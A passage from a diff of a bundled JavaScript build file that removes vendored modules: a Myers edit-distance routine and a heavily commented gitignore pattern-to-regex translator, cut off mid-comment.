@@ -3,1795 +3,6 @@ import { fileURLToPath as __mg_fileURLToPath } from "node:url"; import { dirname
 import { createRequire as __WEBPACK_EXTERNAL_createRequire } from "module";
 /******/ var __webpack_modules__ = ({
 
-/***/ 1916:
-/***/ ((__unused_webpack_module, exports) => {
-
-var __webpack_unused_export__;
-
-__webpack_unused_export__ = true;
-exports.Io = __webpack_unused_export__ = void 0;
-var peq = new Uint32Array(0x10000);
-var myers_32 = function (a, b) {
-    var n = a.length;
-    var m = b.length;
-    var lst = 1 << (n - 1);
-    var pv = -1;
-    var mv = 0;
-    var sc = n;
-    var i = n;
-    while (i--) {
-        peq[a.charCodeAt(i)] |= 1 << i;
-    }
-    for (i = 0; i < m; i++) {
-        var eq = peq[b.charCodeAt(i)];
-        var xv = eq | mv;
-        eq |= ((eq & pv) + pv) ^ pv;
-        mv |= ~(eq | pv);
-        pv &= eq;
-        if (mv & lst) {
-            sc++;
-        }
-        if (pv & lst) {
-            sc--;
-        }
-        mv = (mv << 1) | 1;
-        pv = (pv << 1) | ~(xv | mv);
-        mv &= xv;
-    }
-    i = n;
-    while (i--) {
-        peq[a.charCodeAt(i)] = 0;
-    }
-    return sc;
-};
-var myers_x = function (b, a) {
-    var n = a.length;
-    var m = b.length;
-    var mhc = [];
-    var phc = [];
-    var hsize = Math.ceil(n / 32);
-    var vsize = Math.ceil(m / 32);
-    for (var i = 0; i < hsize; i++) {
-        phc[i] = -1;
-        mhc[i] = 0;
-    }
-    var j = 0;
-    for (; j < vsize - 1; j++) {
-        var mv_1 = 0;
-        var pv_1 = -1;
-        var start_1 = j * 32;
-        var vlen_1 = Math.min(32, m) + start_1;
-        for (var k = start_1; k < vlen_1; k++) {
-            peq[b.charCodeAt(k)] |= 1 << k;
-        }
-        for (var i = 0; i < n; i++) {
-            var eq = peq[a.charCodeAt(i)];
-            var pb = (phc[(i / 32) | 0] >>> i) & 1;
-            var mb = (mhc[(i / 32) | 0] >>> i) & 1;
-            var xv = eq | mv_1;
-            var xh = ((((eq | mb) & pv_1) + pv_1) ^ pv_1) | eq | mb;
-            var ph = mv_1 | ~(xh | pv_1);
-            var mh = pv_1 & xh;
-            if ((ph >>> 31) ^ pb) {
-                phc[(i / 32) | 0] ^= 1 << i;
-            }
-            if ((mh >>> 31) ^ mb) {
-                mhc[(i / 32) | 0] ^= 1 << i;
-            }
-            ph = (ph << 1) | pb;
-            mh = (mh << 1) | mb;
-            pv_1 = mh | ~(xv | ph);
-            mv_1 = ph & xv;
-        }
-        for (var k = start_1; k < vlen_1; k++) {
-            peq[b.charCodeAt(k)] = 0;
-        }
-    }
-    var mv = 0;
-    var pv = -1;
-    var start = j * 32;
-    var vlen = Math.min(32, m - start) + start;
-    for (var k = start; k < vlen; k++) {
-        peq[b.charCodeAt(k)] |= 1 << k;
-    }
-    var score = m;
-    for (var i = 0; i < n; i++) {
-        var eq = peq[a.charCodeAt(i)];
-        var pb = (phc[(i / 32) | 0] >>> i) & 1;
-        var mb = (mhc[(i / 32) | 0] >>> i) & 1;
-        var xv = eq | mv;
-        var xh = ((((eq | mb) & pv) + pv) ^ pv) | eq | mb;
-        var ph = mv | ~(xh | pv);
-        var mh = pv & xh;
-        score += (ph >>> (m - 1)) & 1;
-        score -= (mh >>> (m - 1)) & 1;
-        if ((ph >>> 31) ^ pb) {
-            phc[(i / 32) | 0] ^= 1 << i;
-        }
-        if ((mh >>> 31) ^ mb) {
-            mhc[(i / 32) | 0] ^= 1 << i;
-        }
-        ph = (ph << 1) | pb;
-        mh = (mh << 1) | mb;
-        pv = mh | ~(xv | ph);
-        mv = ph & xv;
-    }
-    for (var k = start; k < vlen; k++) {
-        peq[b.charCodeAt(k)] = 0;
-    }
-    return score;
-};
-var distance = function (a, b) {
-    if (a.length < b.length) {
-        var tmp = b;
-        b = a;
-        a = tmp;
-    }
-    if (b.length === 0) {
-        return a.length;
-    }
-    if (a.length <= 32) {
-        return myers_32(a, b);
-    }
-    return myers_x(a, b);
-};
-exports.Io = distance;
-var closest = function (str, arr) {
-    var min_distance = Infinity;
-    var min_index = 0;
-    for (var i = 0; i < arr.length; i++) {
-        var dist = distance(str, arr[i]);
-        if (dist < min_distance) {
-            min_distance = dist;
-            min_index = i;
-        }
-    }
-    return arr[min_index];
-};
-__webpack_unused_export__ = closest;
-
-
-/***/ }),
-
-/***/ 298:
-/***/ ((module) => {
-
-// A simple implementation of make-array
-function makeArray (subject) {
-  return Array.isArray(subject)
-    ? subject
-    : [subject]
-}
-
-const UNDEFINED = undefined
-const EMPTY = ''
-const SPACE = ' '
-const ESCAPE = '\\'
-
-// The characters that carry a meaning of their own inside a regular
-//   expression, so a literal one has to be escaped before it is emitted.
-const REGEX_LITERAL_SPECIAL = /[.*+?()[\]{}^$|\\/]/
-const BOM = '\uFEFF'
-// A run of two or more asterisks is a globstar (#175)
-const REGEX_ANCHORED_GLOBSTAR = /^\/\*{2,}$/
-const REGEX_REPLACE_LEADING_EXCAPED_EXCLAMATION = /^\\!/
-const REGEX_REPLACE_LEADING_EXCAPED_HASH = /^\\#/
-const REGEX_SPLITALL_CRLF = /\r?\n/g
-
-// Invalid:
-// - /foo,
-// - ./foo,
-// - ../foo,
-// - .
-// - ..
-// Valid:
-// - .foo
-const DOUBLE_SLASH = '//'
-const SLASH_CODE = 47
-const DOT_CODE = 46
-
-
-const SLASH = '/'
-
-// Do not use ternary expression here, since "istanbul ignore next" is buggy
-let TMP_KEY_IGNORE = 'node-ignore'
-/* istanbul ignore else */
-if (typeof Symbol !== 'undefined') {
-  TMP_KEY_IGNORE = Symbol.for('node-ignore')
-}
-const KEY_IGNORE = TMP_KEY_IGNORE
-
-const define = (object, key, value) => {
-  Object.defineProperty(object, key, {value})
-  return value
-}
-
-const RETURN_FALSE = () => false
-
-// > The range notation, e.g. [a-zA-Z],
-// > can be used to match one of the characters in a range.
-//
-// gitignore(5) defers to fnmatch(3) for this, and git implements it in
-//   `wildmatch.c`.  A bracket expression has a sub-grammar of its own, which
-//   is neither the surrounding pattern grammar nor the JavaScript one:
-//
-//   - a `]` right after `[` or `[!` is a literal member, not the terminator
-//   - `[:alpha:]` names one of twelve POSIX classes
-//   - `\` escapes the next member, `]` included
-//   - `*`, `?` and `.` are plain literal members
-//   - an unterminated expression makes the whole pattern match nothing
-//
-// which means the expression can not be located -- let alone translated -- by
-//   a regular expression.  It is scanned out of the pattern before the
-//   replacers below run, and put back once they are done, so that neither the
-//   metacharacter escaper nor the `?` / `*` replacers ever see its body.
-
-// git classifies with its own ASCII-only ctype macros (`wildmatch.c`), never
-//   with the C library ones, so these must not be mapped onto `\d` / `\w` /
-//   `\s`, which are wider.  `/` is left out of every expansion, because a
-//   bracket expression never matches a path separator.
-const POSIX_CLASSES = {
-  alnum: '0-9A-Za-z',
-  alpha: 'A-Za-z',
-  blank: ' \\t',
-  cntrl: '\\x00-\\x1f\\x7f',
-  digit: '0-9',
-  graph: '!-.0-~',
-  lower: 'a-z',
-  print: ' -.0-~',
-  punct: '!-.:-@\\[-`{-~',
-  // git's `sane-ctype.h` classifies \v and \f as control, not space,
-  //   unlike C's `isspace`
-  space: ' \\t\\n\\r',
-  upper: 'A-Z',
-  xdigit: '0-9A-Fa-f'
-}
-
-const CLASS_MEMBERS_TO_ESCAPE = '\\]^-['
-
-const escapeMember = char => CLASS_MEMBERS_TO_ESCAPE.indexOf(char) < 0
-  ? char
-  : ESCAPE + char
-
-// > if (matched == negated || ((flags & WM_PATHNAME) && text_ch == '/'))
-// >   return WM_ABORT_TO_STARSTAR;                     (git, `wildmatch.c`)
-// A bracket expression never matches a path separator, whatever its members
-//   say, so a negated class gets `/` as one more excluded character, while a
-//   plain one -- where a literal member or a range could still let `/` in --
-//   is guarded with a lookahead, `/` being impossible to subtract from a
-//   JavaScript character class.
-const NON_SLASH = '(?!\\/)'
-
-const classSource = (negated, body) => {
-  if (negated) {
-    return `[^\\/${body}]`
-  }
-
-  const source = `[${body}]`
-
-  return new RegExp(source).test('/')
-    ? NON_SLASH + source
-    : source
-}
-
-// Scan the bracket expression that starts at `pattern[start] === '['`,
-//   mirroring the member loop of git's `wildmatch.c`.
-// @returns {{end: number, source: string} | null} `null` if the expression is
-//   never terminated, which makes the whole pattern match nothing.
-const scanBracket = (pattern, start) => {
-  const {length} = pattern
-  let index = start + 1
-  let negated = EMPTY
-
-  const lead = pattern[index]
-  if (lead === '!' || lead === '^') {
-    negated = '^'
-    index ++
-  }
-
-  let body = EMPTY
-
-  // The member a `-` could start a range from, or EMPTY when the previous
-  //   member can not open one (start of the body, or a range / POSIX class
-  //   that has just closed)
-  let prev = EMPTY
-
-  // git scans the members with a do-while, so the first one is consumed
-  //   unconditionally.  That is the whole reason a leading `]` is a member
-  //   and not the terminator.
-  for (;;) {
-    const char = pattern[index]
-
-    if (char === UNDEFINED) {
-      return null
-    }
-
-    if (char === ESCAPE) {
-      // A pattern can not end on a lone backslash -- `createRule` has
-      //   already thrown it away -- so there is a character to read.
-      const escaped = pattern[++ index]
-      body += escapeMember(escaped)
-      prev = escaped
-    } else if (
-      char === '-'
-      && prev
-      && index + 1 < length
-      && pattern[index + 1] !== ']'
-    ) {
-      index ++
-      let to = pattern[index]
-      if (to === ESCAPE) {
-        to = pattern[index += 1]
-      }
-      // An out-of-order range matches nothing in git but is a syntax error in
-      //   JavaScript, so it is dropped.  Its lower bound stays: git tests it
-      //   as a plain member before it ever looks at the `-`, so `[c-a]` does
-      //   match `c`.
-      if (prev <= to) {
-        body += `-${escapeMember(to)}`
-      }
-      prev = EMPTY
-    } else if (char === '[' && pattern[index + 1] === ':') {
-      const nameStart = index + 2
-      let end = nameStart
-      while (end < length && pattern[end] !== ']') {
-        end ++
-      }
-
-      if (end === length) {
-        return null
-      }
-
-      if (end > nameStart && pattern[end - 1] === ':') {
-        const name = pattern.slice(nameStart, end - 1)
-
-        // An unknown class name makes the whole pattern match nothing
-        if (!Object.prototype.hasOwnProperty.call(POSIX_CLASSES, name)) {
-          return null
-        }
-
-        body += POSIX_CLASSES[name]
-        prev = EMPTY
-        index = end
-      } else {
-        // No `:]` to close it, so the `[` is a plain member and scanning
-        //   resumes right after it.
-        body += escapeMember('[')
-        prev = '['
-        index = nameStart - 2
-      }
-    } else {
-      body += escapeMember(char)
-      prev = char
-    }
-
-    index ++
-
-    if (pattern[index] === ']') {
-      return {
-        end: index,
-        source: classSource(negated, body)
-      }
-    }
-  }
-}
-
-// An empty JavaScript class can never match, which is how a pattern that git
-//   gives up on (`WM_ABORT_ALL`) is expressed here.
-const NEVER_MATCH = '[]'
-
-// A NUL can appear in neither a `.gitignore` line nor a path, which makes it
-//   the one safe placeholder character.  A literal one in the pattern is
-//   held aside all the same, so a collision is impossible by construction.
-const PLACEHOLDER = '\u0000'
-const REGEX_RESTORE_PLACEHOLDER = new RegExp(
-  `${PLACEHOLDER}(\\d+)${PLACEHOLDER}`, 'g'
-)
-
-// The one wildcard the chain does not expand for itself is a trailing `*`. How
-//   it expands depends on the mode (`regex` vs `checkRegex`), so `_make` is
-//   left to do it, and until then the pending wildcard travels as this marker.
-//   That is what keeps it apart from a user-escaped literal `\*`: the unescape
-//   steps collapse the escaped one to the exact `\*` a wildcard would leave
-//   behind, so by the time `_make` runs the two are otherwise the same string
-//   and a literal star gets wrongly rewritten into a wildcard. The marker is a
-//   private-use character, and `extractBrackets` keeps one that came out of the
-//   pattern apart from it, so the only marker `_make` ever turns back into a
-//   real wildcard is the one this chain put there itself.
-const TRAILING_WILDCARD = '\uE000'
-
-// A trailing "/**" is deferred the same way, because `checkRegex` has to tell
-//   it apart from a trailing "/*" (see `checkSourceOf`). For `.ignores()` it
-//   still never matches the folder itself (#21).
-const TRAILING_DOUBLESTAR = '\uE001'
-
-// The three characters above mean something to the chain that builds the
-//   source rather than to the path, so one that came out of the pattern is
-//   held aside like a bracket expression instead of going straight out. Being
-//   held is what makes it safe: the restore runs after the step that anchors
-//   the source, so the character comes back in the middle of the source and
-//   not at its end, which is the one place `_make` and `checkSourceOf` look
-//   for a marker. Without it a pattern's own character lands where a pending
-//   marker sits, and `_make` turns it into a real trailing wildcard.
-//
-// It is held as a one-member class rather than bare, in both of the branches
-//   a reserved character can reach, so that the property can be
-//   read off this function alone -- a reserved character never goes out on
-//   its own -- rather than depending on where in the chain the restore
-//   happens to run. In the expression built here `[x]` matches exactly what
-//   `x` matches, none of the three being special to a regular expression or
-//   inside a class, so no test can tell the two apart: the class is insurance,
-//   and the paragraph above is the reason it is not needed.
-const isReserved = char =>
-  char === PLACEHOLDER
-  || char === TRAILING_WILDCARD
-  || char === TRAILING_DOUBLESTAR
-
-// Replace every bracket expression with a placeholder the replacers below
-//   leave alone, and translate it separately.
-const extractBrackets = pattern => {
-  const sources = []
-  const hold = source =>
-    `${PLACEHOLDER}${sources.push(source) - 1}${PLACEHOLDER}`
-
-  const {length} = pattern
-  let out = EMPTY
-  let index = 0
-
-  while (index < length) {
-    const char = pattern[index]
-
-    if (char === ESCAPE) {
-      // > Put a backslash ("\") in front of ... a character to make it literal.
-      //                                            (gitignore(5) -> fnmatch(3))
-      // A backslash quotes the next character, whatever it is, so `\d` is a
-      //   literal `d`, not the regex digit class, and `\?` is a literal `?`,
-      //   not a wildcard. Held aside as its literal here, the escape never
-      //   reaches the replacers below, which would otherwise let `\d`, `\b`,
-      //   `\1`, `\/` keep their regular-expression meaning, and would turn a
-      //   `\?` into `[^\/]`.
-      //
-      // Three escapes are still left for the chain: `\*` (a literal star,
-      //   told apart from a wildcard by `TRAILING_WILDCARD` and the wildcard
-      //   replacers), `\[` (a literal bracket, the one `[` the bracket
-      //   replacer still expects), and `\ ` (a quoted space, which one pass
-      //   below rewrites in bulk -- holding each one aside instead costs more
-      //   on a pattern built out of them).
-      //
-      // A quoted backslash is not among them. The chain doubles every
-      //   backslash, then takes the doubling back out again, and a quoted one
-      //   standing next to a character the chain also escapes left the two
-      //   counts sharing a run, so one of the escapes was lost. Held here as
-      //   the literal it means, it never joins that run.
-      const escaped = pattern[index + 1]
-
-      if (escaped === SLASH && index + 2 === length) {
-        // Git removes a final directory slash before matching. An escape
-        //   without a character after that removal makes the pattern invalid.
-        out += hold(NEVER_MATCH)
-      } else if (
-        escaped === '*'
-        || escaped === '['
-        || escaped === SPACE
-      ) {
-        out += pattern.slice(index, index + 2)
-      } else {
-        out += hold(
-          REGEX_LITERAL_SPECIAL.test(escaped)
-            ? ESCAPE + escaped
-            : isReserved(escaped)
-              ? `[${escaped}]`
-              : escaped
-        )
-      }
-
-      index += 2
-    } else if (isReserved(char)) {
-      out += hold(`[${char}]`)
-      index ++
-    } else if (char === '[') {
-      const scanned = scanBracket(pattern, index)
-
-      if (scanned === null) {
-        // git gives up on the whole pattern (`WM_ABORT_ALL`), so whatever
-        //   follows can not make it match either.
-        out += hold(NEVER_MATCH)
-        index = length
-      } else {
-        out += hold(scanned.source)
-        index = scanned.end + 1
-      }
-    } else {
-      out += char
-      index ++
-    }
-  }
-
-  return {
-    source: out,
-    sources
-  }
-}
-
-// A step of the chain below is normally a `[matcher, replacer]` pair handed
-//   to `String.replace`. `DIRECT` marks the ones that are plain string work
-//   instead, and take `(source, pattern)`.
-//
-// Anchoring the two ends is exactly that -- a test of one character and a
-//   concatenation -- and putting it through the regular expression engine
-//   cost a third of this chain for nothing: 167ns where 10ns does the same
-//   job. The two are still steps in the same list, in the same places,
-//   because their position in the order is part of what they mean.
-const DIRECT = null
-
-// A separator at the beginning or in the middle of a pattern, as opposed to
-//   one at the very end.
-const REGEX_INNER_SLASH = /\/(?!$)/
-const WILDCARD = '[^\\/]*'
-
-// > If the pattern ends with a slash,
-// > it is removed for the purpose of the following description,
-// > but it would only find a match with a directory.
-// > In other words, foo/ will match a directory foo and paths underneath it,
-// > but will not match a regular file or a symbolic link foo
-// >  (this is consistent with the way how pathspec works in general in Git).
-// '`foo/`' will not match regular file '`foo`' or symbolic link '`foo`'
-// -> ignore-rules will not deal with it, because it costs extra `fs.stat` call
-//      you could use option `mark: true` with `glob`
-
-// '`foo/`' should not continue with the '`..`'
-// The chain that turns one gitignore pattern into a regular expression
-//   source, in order. A step is either
-//
-//   [matcher, replacer]            handed to `String.replace`
-//   [matcher, replacer, required]  the same, but skipped outright unless
-//                                    `required` appears in the string, which
-//                                    the matcher cannot match without
-//   [DIRECT, transform]            plain string work, taking (source, pattern)
-//
-// The `required` character is only ever a shortcut: finding it does not mean
-//   the matcher will match, and not finding it means it cannot. It is there
-//   because scanning for one character costs a fraction of running a matcher
-//   that then finds nothing -- for the wildcard step, whose `[^\\]+`
-//   backtracks its way through the whole string before giving up, 11ns
-//   against 400ns.
-const REPLACERS = [
-
-  // Replace (\ ) with ' '
-  // Only a space: an escaped tab or other whitespace is already a literal by
-  //   the time it reaches here, and a bare tab must be left as one, not turned
-  //   into a space.
-  // (\ ) -> ' '
-  // (\\ ) -> '\\ '
-  // (\\\ ) -> '\\ '
-  [
-    // A run of backslashes is taken whole, from its first one, so no match
-    //   ever starts again inside it -- `(\\+?) ` did, which made a long run
-    //   quadratic.
-    /(\\+)( ?)/g,
-    (_, run, space) => space
-      ? run.slice(0, run.length - run.length % 2) + SPACE
-      : run,
-    ESCAPE + SPACE
-  ],
-
-  // git's wildmatch() reads a run of two or more asterisks as one globstar
-  //   whenever the run fills a path segment: it starts the pattern or follows
-  //   a `/`, and it ends the pattern or comes before a `/`. A run of two is
-  //   already `**`; a longer one is folded into `**` here, so the steps
-  //   below only ever have to know `**`.
-  // `***/foo` -> `**/foo`, `a/***/b` -> `a/**/b`, `a/***` -> `a/**`
-  // git also takes a run beside a literal prefix (`a***/b`) or beside an
-  //   escaped slash (`***\/b`) as a globstar, and this does not; the README
-  //   lists both, under "A run of asterisks".
-  [
-    /(^|\/)\*{3,}(?=\/|$)/g,
-    (_, start) => `${start}**`,
-    '*'
-  ],
-
-  // Escape metacharacters
-  // which is written down by users but means special for regular expressions.
-
-  // > There are 12 characters with special meanings:
-  // > - the backslash \,
-  // > - the caret ^,
-  // > - the dollar sign $,
-  // > - the period or dot .,
-  // > - the vertical bar or pipe symbol |,
-  // > - the question mark ?,
-  // > - the asterisk or star *,
-  // > - the plus sign +,
-  // > - the opening parenthesis (,
-  // > - the closing parenthesis ),
-  // > - and the opening square bracket [,
-  // > - the opening curly brace {,
-  // > These special characters are often called "metacharacters".
-  [
-    /[\\$.|*+(){^]/g,
-    match => `\\${match}`
-  ],
-
-  [
-    // > a question mark (?) matches a single character
-    /(?!\\)\?/g,
-    () => '[^/]',
-    '?'
-  ],
-
-  // leading slash
-  [
-
-    // > A leading slash matches the beginning of the pathname.
-    // > For example, "/*.c" matches "cat-file.c" but not "mozilla-sha1/sha1.c".
-    // A leading slash matches the beginning of the pathname
-    /^\//,
-    () => '^',
-    SLASH
-  ],
-
-  // replace special metacharacter slash after the leading slash
-  [
-    /\//g,
-    () => '\\/',
-    SLASH
-  ],
-
-  [
-    // > A leading "**" followed by a slash means match in all directories.
-    // > For example, "**/foo" matches file or directory "foo" anywhere,
-    // > the same as pattern "foo".
-    // > "**/foo/bar" matches file or directory "bar" anywhere that is directly
-    // >   under directory "foo".
-    // Notice that the '*'s have been replaced as '\\*'
-    /^\^*(?:\\\*\\\*\\\/)+/,
-
-    // '**/foo' <-> 'foo'
-    () => '(?:^|\\/)',
-    '*'
-  ],
-
-  // starting
-  [
-    // there will be no leading '/'
-    //   (which has been replaced by section "leading slash")
-    // If starts with '**', adding a '^' to the regular expression also works
-    DIRECT,
-    (source, pattern) => {
-      // Nothing to anchor to, or already anchored (`^` or `(?:^|\/)`)
-      if (!source || source[0] === '^' || source[0] === '(') {
-        return source
-      }
-
-      // If has a slash `/` at the beginning or middle
-      const anchor = !REGEX_INNER_SLASH.test(pattern)
-        // > Prior to 2.22.1
-        // > If the pattern does not contain a slash /,
-        // >   Git treats it as a shell glob pattern
-        // Actually, if there is only a trailing slash,
-        //   git also treats it as a shell glob pattern
-
-        // After 2.22.1 (compatible but clearer)
-        // > If there is a separator at the beginning or middle (or both)
-        // > of the pattern, then the pattern is relative to the directory
-        // > level of the particular .gitignore file itself.
-        // > Otherwise the pattern may also match at any level below
-        // > the .gitignore level.
-        ? '(?:^|\\/)'
-
-        // > Otherwise, Git treats the pattern as a shell glob suitable for
-        // >   consumption by fnmatch(3)
-        : '^'
-
-      return anchor + source
-    }
-  ],
-
-  // two globstars
-  [
-    // Use lookahead assertions so that we could match more than one `'/**'`
-    /\\\/\\\*\\\*(?=\\\/|$)/g,
-
-    // Zero, one or several directories
-    // should not use '*', or it will be replaced by the next replacer
-
-    // Check if it is not the last `'/**'`
-    (_, index, str) => index + 6 < str.length
-
-      // case: /**/ at the end of the pattern, i.e. a trailing `'/**/'`
-      // > A trailing `"/**/"` (a trailing `"/**"` restricted to directories)
-      // >   matches everything inside, but it should not match the current
-      // >   folder itself, so it requires at least one directory segment.
-      // 'a/**/' matches 'a/b/', 'a/x/y/' but not 'a/'
-      ? str.slice(index + 6) === '\\/'
-        ? '(?:\\/[^\\/]+)+'
-
-        // case: /**/
-        // > A slash followed by two consecutive asterisks then a slash matches
-        // >   zero or more directories.
-        // > For example, "a/**/b" matches "a/b", "a/x/b", "a/x/y/b" and so on.
-        // '/**/'
-        : '(?:\\/[^\\/]+)*'
-
-      // case: /**
-      // > A trailing `"/**"` matches everything inside.
-
-      // #21: everything inside but it should not include the current folder,
-      //   resolved by `_make`
-      : `\\/${TRAILING_DOUBLESTAR}`,
-    '*'
-  ],
-
-  // normal intermediate wildcards
-  [
-    // Never replace escaped '*'
-    // ignore rule '\*' will match the path '*'
-
-    // 'abc.*/' -> go
-    // 'abc.*'  -> skip this rule,
-    //    coz trailing single wildcard will be handed by [trailing wildcard]
-    /(^|[^\\])(?:\\\*)+(?!$)/g,
-
-    // '*.js' matches '.js'
-    // '*.js' doesn't match 'abc'
-    // 1. An asterisk "*" matches anything except a slash.
-    // 2. Other consecutive asterisks are considered regular asterisks
-    //    and collapse into one non-slash wildcard run.
-    (_, p1) => p1 + WILDCARD,
-    '*'
-  ],
-
-  // trailing wildcard, held apart from a literal star
-  [
-    // The step above leaves a trailing `*` alone, so a single `\*` is all that
-    //   can be left at the end here, and what stands in front of it says which
-    //   kind it is. A wildcard arrives as the escaper wrote it, `\*` with
-    //   nothing before it; a literal arrives as the user's own escape, which
-    //   the escaper doubled, and then the star's own -- `\\` and then `\*`.
-    //   There is no third case: every backslash still reaching the chain is
-    //   one `\*`, `\[` or `\ ` carries itself, and each is followed by its
-    //   own character, so a longer run can never form. This runs while the
-    //   two are still distinct, before the unescape steps below collapse the
-    //   literal onto the very `\*` a wildcard leaves behind.
-    /(^|[^\\])((?:\\\\)*)\\\*$/,
-
-    (match, p1, p2) =>
-      p2 === EMPTY
-        // A real wildcard: carry it to `_make` as the marker, so the unescape
-        //   steps and the trailing-wildcard rewrite can never mistake it for a
-        //   literal `\*` (nor the reverse).
-        ? p1 + TRAILING_WILDCARD
-        // A literal star: leave it exactly as it stands for the unescape steps.
-        : match,
-    '*'
-  ],
-
-  [
-    // unescape, revert step 3 except for back slash
-    // For example, if a user escape a '\\*',
-    // after step 3, the result will be '\\\\\\*'
-    /\\\\\\(?=[$.|*+(){^])/g,
-    () => ESCAPE,
-    ESCAPE + ESCAPE
-  ],
-
-  [
-    // '\\\\' -> '\\'
-    /\\\\/g,
-    () => ESCAPE,
-    ESCAPE + ESCAPE
-  ],
-
-  [
-    // Every real bracket expression -- POSIX classes included -- has already
-    //   been held aside by `extractBrackets`, so the only `[` left in the
-    //   pattern is an escaped, literal one.
-
-    // A backslash could only stand at the end of the range if it quoted the
-    //   `]`, and `\]` is held aside long before this.
-    /\\\[([^\]/]*?)($|\])/g,
-
-    // '\\[bar]' -> '\\\\[bar]'
-    (match, range, close) => `\\[${range}${close}`,
-    '['
-  ],
-
-  // ending
-  [
-    // 'js' will not match 'js.'
-    // 'ab' will not match 'abc'
-    DIRECT,
-
-    // WTF!
-    // https://git-scm.com/docs/gitignore
-    // changes in [2.22.1](https://git-scm.com/docs/gitignore/2.22.1)
-    // which re-fixes #24, #38
-
-    // > If there is a separator at the end of the pattern then the pattern
-    // > will only match directories, otherwise the pattern can match both
-    // > files and directories.
-
-    // 'js*' will not match 'a.js'
-    // 'js/' will not match 'a.js'
-    // 'js' will match 'a.js' and 'a.js/'
-    source => {
-      const last = source[source.length - 1]
-
-      // The pattern is empty, or ends in a pending marker `_make` owns --
-      //   the trailing wildcard, or a trailing "/**". A trailing `*` that is
-      //   not the marker is a literal star, which anchors like any other
-      //   final character.
-      if (!last || last === TRAILING_WILDCARD || last === TRAILING_DOUBLESTAR) {
-        return source
-      }
-
-      return last === SLASH
-        // foo/ will not match 'foo'
-        ? `${source}$`
-        // foo matches 'foo' and 'foo/'
-        : `${source}(?=$|\\/$)`
-    }
-  ]
-]
-
-const REGEX_REPLACE_TRAILING_WILDCARD = /(^|\\\/)?\uE000$/
-const MODE_IGNORE = 'regex'
-const MODE_CHECK_IGNORE = 'checkRegex'
-const UNDERSCORE = '_'
-
-const replaceTrailingWildcard = (_, p1) => {
-  const prefix = p1
-    // '\^':
-    // '/*' does not match EMPTY
-    // '/*' does not match everything
-
-    // '\\\/':
-    // 'abc/*' does not match 'abc/'
-    ? `${p1}[^/]+`
-
-    // 'a*' matches 'a'
-    // 'a*' matches 'aa'
-    : '[^/]*'
-
-  return `${prefix}(?=$|\\/$)`
-}
-
-const REGEX_REPLACE_TRAILING_DOUBLESTAR = /\uE001$/
-
-// 'abc/**' matches everything under 'abc', but not 'abc/' itself (#21):
-//   requiring one arbitrary character (line terminators included, #176)
-//   after 'abc/' is necessary and sufficient for `.test(path)`.
-const replaceTrailingDoublestar = () => '[\\s\\S]'
-
-// The fixed piece between the wildcard at `at` and the next wildcard of the
-//   run: the tokens that separate them, joined as they appear in the source.
-//   A run never holds two wildcards in a row, so there is always at least one
-//   token.
-const separatorAfter = (run, at) => {
-  let separator = EMPTY
-
-  for (let index = at + 1; index < run.length && !run[index].wildcard; index ++) {
-    separator += run[index].single
-  }
-
-  return separator
-}
-
-// Where a run of non-slash wildcards is split by fixed pieces --
-//   `[^/]*ab[^/]*cd...` -- the engine has many equivalent ways to lay the
-//   input across the wildcards, and on input that does not match it works
-//   through all of them, so the time grows with the number of wildcards
-//   rather than the length of the path. Every wildcard but the last in such a
-//   run can be pinned to stop where the piece after it begins, which leaves
-//   one way to lay out the input and no rewinding, without changing which
-//   paths match: the fixed pieces still bound the count, and the last
-//   wildcard still absorbs the rest.
-//
-// A wildcard is pinned to the whole piece, never to the piece's first
-//   character. The pin leaves no way back, so a wildcard that stopped at that
-//   first character would hand over wherever the character happens to turn
-//   up, including the places the rest of the piece cannot follow -- which is
-//   how `f*o/*/*` came to miss `foo/b/c`, the first `o` of `foo` not being
-//   the one the `o/` after it needs. Every token of a piece matches exactly
-//   one character, so the first place the whole piece fits is the leftmost
-//   place it can sit, and whatever is left over goes to the wildcards that
-//   follow.
-//
-// The source is read one token at a time -- a wildcard, a single-character
-//   piece (a literal, an escape, a class), or a parenthesised group or anchor
-//   that ends the run -- so only a genuine wildcard is touched.
-const pinWildcards = source => {
-  if (source.indexOf(WILDCARD) < 0) {
-    return source
-  }
-
-  const tokens = []
-  const {length} = source
-  let index = 0
-
-  while (index < length) {
-    const char = source[index]
-
-    if (source.startsWith(WILDCARD, index)) {
-      tokens.push({wildcard: true})
-      index += WILDCARD.length
-    } else if (char === '[') {
-      let end = index + 1
-
-      if (source[end] === '^') {
-        end ++
-      }
-
-      if (source[end] === ']') {
-        end ++
-      }
-
-      while (end < length && source[end] !== ']') {
-        end += source[end] === ESCAPE
-          ? 2
-          : 1
-      }
-
-      end ++
-      tokens.push({single: source.slice(index, end)})
-      index = end
-    } else if (char === ESCAPE) {
-      tokens.push({single: source.slice(index, index + 2)})
-      index += 2
-    } else if (char === '(') {
-      let depth = 0
-      let end = index
-
-      do {
-        if (source[end] === ESCAPE) {
-          end ++
-        } else if (source[end] === '(') {
-          depth ++
-        } else if (source[end] === ')') {
-          depth --
-        }
-
-        end ++
-      } while (end < length && depth > 0)
-
-      if ('*+?'.indexOf(source[end]) >= 0) {
-        end ++
-      }
-
-      tokens.push({boundary: source.slice(index, end)})
-      index = end
-    } else if (char === '^' || char === '$') {
-      tokens.push({boundary: char})
-      index ++
-    } else {
-      tokens.push({single: char})
-      index ++
-    }
-  }
-
-  let out = EMPTY
-  let run = []
-
-  const flush = () => {
-    let lastWildcard
-
-    run.forEach((token, at) => {
-      if (token.wildcard) {
-        lastWildcard = at
-      }
-    })
-
-    run.forEach((token, at) => {
-      if (!token.wildcard) {
-        out += token.single
-        return
-      }
-
-      // Every wildcard but the last is pinned to the whole piece that
-      //   follows it, for the reason set out above this function. The last
-      //   one stays as it is and takes up the rest.
-      out += at === lastWildcard
-        ? WILDCARD
-        : `(?:(?!${separatorAfter(run, at)})[^\\/])*`
-    })
-
-    run = []
-  }
-
-  tokens.forEach(token => {
-    if (token.boundary === undefined) {
-      run.push(token)
-      return
-    }
-
-    flush()
-    out += token.boundary
-  })
-
-  flush()
-
-  return out
-}
-
-// @param {pattern}
-const makeRegexPrefix = pattern => {
-  // `/**` matches every path, as `**` does. The translation below only finds
-  //   a globstar beside a slash it keeps, and the leading one is turned into
-  //   an anchor, so `/**` would come out as `/*` and match one level only.
-  //   Here rather than in `createRule`, so that `checkSourceOf`, which
-  //   compiles `/**/` again without its trailing slash, gets it too.
-  if (REGEX_ANCHORED_GLOBSTAR.test(pattern)) {
-    pattern = '**'
-  }
-
-  const {source, sources} = extractBrackets(pattern)
-
-  const replaced = REPLACERS.reduce(
-    // A pass whose matcher finds nothing hands back the very string it was
